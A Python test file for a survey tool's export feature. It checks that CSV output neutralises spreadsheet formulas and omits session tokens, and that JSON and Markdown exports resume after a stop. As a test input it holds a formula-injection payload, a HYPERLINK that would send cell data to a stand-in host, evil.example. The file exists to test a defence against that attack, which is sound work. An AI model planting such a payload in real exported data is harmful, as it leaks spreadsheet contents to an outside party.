"""``study export``: the CSV read back by Python's csv module gives every value (formulas
neutralised); JSON and Markdown files one per interview, continued after a stop."""

from __future__ import annotations

import asyncio
import codecs
import csv
import json
from pathlib import Path
from typing import Any

from koji_tui.api import KojiClient
from koji_tui.journal import Journal
from koji_tui.ops.csv_export import export_csv, neutralise
from koji_tui.ops.runner import Progress, run
from koji_tui.ops.study import ExportOperation
from koji_tui.questions import QuestionType
from tests.results.seed import Plan, run_interview

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


async def _study(sandbox: Any, journal: Journal) -> str:
    study = next(s for s in sandbox.studies if s.id == "acme-product-feedback")
    plans = [
        Plan(
            respondent={
                "external_id": "c-1",
                "display_name": HOSTILE,
                "metadata": {"phone": "+1 555 0100", "note": 'says "hi", twice\nand more'},
            },
            multiple=["Invoicing", "Reports", {"other": "@SUM(A1:A9)"}],
            ranking=["Price", "Speed"],
        ),
        Plan(
            respondent={"external_id": "-2", "display_name": "Zoë; Müller"},
            single="Rarely",
            yes_no=False,
            scale=0,
            free_text=frozenset({QuestionType.SINGLE_CHOICE}),
        ),
        Plan(stop_after=1, reason=None),
    ]
    async with KojiClient(sandbox.base_url, sandbox.key(study.id)) as client:
        for plan in plans:
            await run_interview(client, journal, study.name, plan)
    return study.name


async def test_the_csv_read_back_gives_every_value(sandbox: Any, tmp_path: Path) -> None:
    with Journal(tmp_path / "journal.sqlite3") as journal:
        name = await _study(sandbox, journal)
        seen: list[tuple[int, int]] = []
        path = tmp_path / "out" / "study.csv"
        count = export_csv(journal, name, path, lambda done, total: seen.append((done, total)))
        records = sorted(journal.list_interviews(study_name=name), key=lambda r: r.started_at)
    assert count == 3 and seen[-1] == (3, 3)
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8) and b"\r\n" in raw
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["interview_id"] for r in rows] == [r.interview_id for r in records]
    first, second, third = rows
    assert first["display_name"] == "'" + HOSTILE  # a formula never runs
    assert first["metadata.phone"] == "'+1 555 0100"
    assert first["metadata.note"] == 'says "hi", twice\nand more'  # quotes, commas, a line break
    assert second["external_id"] == "'-2"
    assert second["display_name"] == "Zoë; Müller"
    features = "Which features do you use regularly? Select all that apply."
    priorities = (
        "Which of these should we improve first? Please rank these from most to least important."
    )
    assert first[features] == "Invoicing; Reports; @SUM(A1:A9)"  # not at the cell's start
    assert first[priorities] == "Price > Speed > Ease of use > Integrations"
    assert first["How often do you use Acme?"] == "Every day"
    assert second["How often do you use Acme?"] == "Rarely"  # typed, read against the options
    nps = next(k for k in first if k.startswith("How likely are you to recommend Acme"))
    assert (first[nps], second[nps], third[nps]) == ("9", "0", "")
    support = next(k for k in first if k.startswith("Have you contacted"))
    assert (first[support], second[support]) == ("Yes", "No")
    for row, record in zip(rows, records, strict=True):
        assert row["status"] == record.status
        assert row["quality_score"] == (
            "" if record.quality_score is None else str(record.quality_score)
        )
        assert row["started_at"] == record.started_at
    assert first["outcome"] == "completed" and third["outcome"] == "active"
    assert float(first["duration_seconds"]) >= 0 and third["duration_seconds"] == ""
    assert "session_token" not in raw.decode("utf-8-sig")
    for record in records:
        assert record.session_token and record.session_token not in raw.decode("utf-8-sig")


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    for start in "=+-@\t\r":
        assert neutralise(start + "1") == "'" + start + "1"
    assert neutralise("1+1") == "1+1" and neutralise(-3) == -3 and neutralise(4.5) == 4.5


async def test_json_and_markdown_one_file_each_continued(sandbox: Any, tmp_path: Path) -> None:
    with Journal(tmp_path / "journal.sqlite3") as journal:
        name = await _study(sandbox, journal)
        folder = tmp_path / "exports"
        stop = asyncio.Event()

        def after_one(p: Progress) -> None:
            if p.done >= 1:
                stop.set()

        first = await run(journal, ExportOperation(journal, name, folder, "json"), stop=stop,
                          on_progress=after_one, workers=1)  # fmt: skip
        written = {p.name: p.stat().st_mtime_ns for p in folder.iterdir()}
        second = await run(journal, ExportOperation(journal, name, folder, "json"), workers=1)
        md = await run(journal, ExportOperation(journal, name, folder, "md"))
        ids = {r.interview_id for r in journal.list_interviews(study_name=name)}
    assert not first.finished and len(written) == first.progress.done == 1
    assert second.resumed and second.finished and second.progress.done_now == 2
    for file_name, mtime in written.items():
        assert (folder / file_name).stat().st_mtime_ns == mtime  # not written twice
    assert md.finished and not md.resumed
    jsons = sorted(folder.glob("*.json"))
    assert {json.loads(p.read_text("utf-8"))["interview_id"] for p in jsons} == ids
    assert len(list(folder.glob("*.md"))) == 3
